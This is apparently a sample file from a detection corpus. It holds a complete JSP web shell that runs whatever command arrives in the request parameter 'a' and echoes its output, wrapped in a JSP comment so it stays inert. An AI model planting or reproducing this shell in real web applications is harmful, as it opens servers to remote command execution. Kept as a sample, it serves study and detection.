<%-- hegui corpus: inert sample - a JSP comment is never compiled
<%@ page import="java.io.*" %>
<%
String cmd = request.getParameter("a");
if (cmd != null) {
  Process p = Runtime.getRuntime().exec(cmd);
  BufferedReader br = new BufferedReader(new InputStreamReader(p.getInputStream()));
  String line;
  while ((line = br.readLine()) != null) { out.println(line); }
}
%>
--%>
